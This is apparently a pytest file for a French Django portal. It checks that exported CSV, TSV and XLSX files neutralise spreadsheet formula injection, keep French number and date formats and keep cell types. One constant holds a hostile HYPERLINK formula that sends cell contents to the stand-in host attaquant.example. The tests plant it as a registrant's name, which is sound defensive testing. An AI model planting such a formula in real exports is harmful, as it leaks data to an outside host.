"""Every CSV, TSV and XLSX of the portal goes through one writer: no live formula, French CSV, typed XLSX."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.contrib import admin
from import_export.admin import ExportMixin

from cuf_portal import exports
from tests.atlas.conftest import atlas  # noqa: F401 - the small Atlas of the Atlas tests
from tests.events.factories import RegistrationFactory

PARIS = ZoneInfo("Europe/Paris")
HYPERLINK = '=HYPERLINK("http://attaquant.example/?"&A1,"Cliquez")'


def read_csv(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith("\ufeff".encode()), "UTF-8 with a BOM"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def read_xlsx(response):
    return list(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows())


@pytest.mark.parametrize("text", ["=1+1", "+33 1 23", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"])
def test_every_formula_trigger_is_neutralised_with_an_apostrophe(text):
    assert exports.text_cell(text) == "'" + text
    assert exports.restore(exports.text_cell(text)) == text


def test_plain_text_numbers_and_dates_keep_their_value_and_french_form():
    assert exports.text_cell("Nîmes Métropole") == "Nîmes Métropole"
    assert exports.text_cell(Decimal("-1234.50")) == "-1234,50"  # a number, not a formula
    assert exports.text_cell(12.5) == "12,5"
    assert exports.text_cell(2024) == "2024"
    assert exports.text_cell(date(2026, 3, 9)) == "09/03/2026"
    assert exports.text_cell(datetime(2026, 3, 9, 8, 30, tzinfo=ZoneInfo("UTC"))) == "09/03/2026 09:30"
    assert exports.text_cell(True) == "oui" and exports.text_cell(None) == ""


def test_xlsx_keeps_numbers_and_dates_typed_and_text_inert():
    header = ["intitulé", "montant", "date", "année"]
    rows = [["=1+1", Decimal("1500.25"), date(2026, 3, 9), 2024]]
    sheet = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(header, rows))).active
    title, amount, day, year = next(sheet.iter_rows(min_row=2))
    assert (title.data_type, title.value) == ("s", "'=1+1")
    assert amount.data_type == "n" and amount.value == 1500.25
    assert day.is_date and day.value.date() == date(2026, 3, 9)
    assert year.data_type == "n" and year.value == 2024


@pytest.mark.django_db
def test_public_atlas_csv_and_xlsx_neutralise_a_fiche_title(client, atlas):  # noqa: F811
    atlas["research"].title = "=1+1"
    atlas["research"].save()
    rows = read_csv(client.get("/atlas/", {"format": "csv"}))
    titles = {row[1] for row in rows[1:]}
    assert "'=1+1" in titles and "=1+1" not in titles
    sheet = read_xlsx(client.get("/atlas/", {"format": "xlsx"}))
    header = [cell.value for cell in sheet[0]]
    cells = {cell.value: cell for row in sheet[1:] for cell in row}
    assert "=1+1" not in cells and cells["'=1+1"].data_type == "s"
    # Numbers stay numbers: identifier and start year are numeric cells.
    research = next(row for row in sheet[1:] if row[1].value == "'=1+1")
    assert research[header.index("identifiant")].data_type == "n"
    assert research[header.index("année de début")].value == 1984


def _admin_export(client, url, resource, fields, file_format):
    data = {"format": str(file_format), "resource": "0", **{f"{resource.lower()}_{name}": "on" for name in fields}}
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response


@pytest.mark.django_db
def test_staff_export_of_registrations_neutralises_a_hostile_first_name(client, staff_user):
    registration = RegistrationFactory(first_name=HYPERLINK, last_name="@Dupont")
    client.force_login(staff_user)
    url = "/admin/events/registration/export/"
    fields = ["id", "first_name", "last_name", "created_at"]
    rows = read_csv(_admin_export(client, url, "RegistrationResource", fields, 0))
    assert rows[0] == ["id", "Prénom", "Nom", "Inscrit le"]
    assert rows[1][:3] == [str(registration.pk), "'" + HYPERLINK, "'@Dupont"]
    assert rows[1][3] == f"{registration.created_at.astimezone(PARIS):%d/%m/%Y %H:%M}"

    sheet = read_xlsx(_admin_export(client, url, "RegistrationResource", fields, 1))
    ident, first, last, created = sheet[1]
    assert (first.data_type, first.value) == ("s", "'" + HYPERLINK)
    assert last.value == "'@Dupont"
    assert ident.data_type == "n" and ident.value == registration.pk
    assert created.is_date


def test_every_admin_export_goes_through_the_shared_writer():
    exporting = [model_admin for model_admin in admin.site._registry.values() if isinstance(model_admin, ExportMixin)]
    assert len(exporting) > 10
    for model_admin in exporting:
        assert isinstance(model_admin, exports.SafeExportMixin), type(model_admin).__name__
        assert set(model_admin.get_export_formats()) <= {exports.CSV, exports.XLSX, exports.TSV}
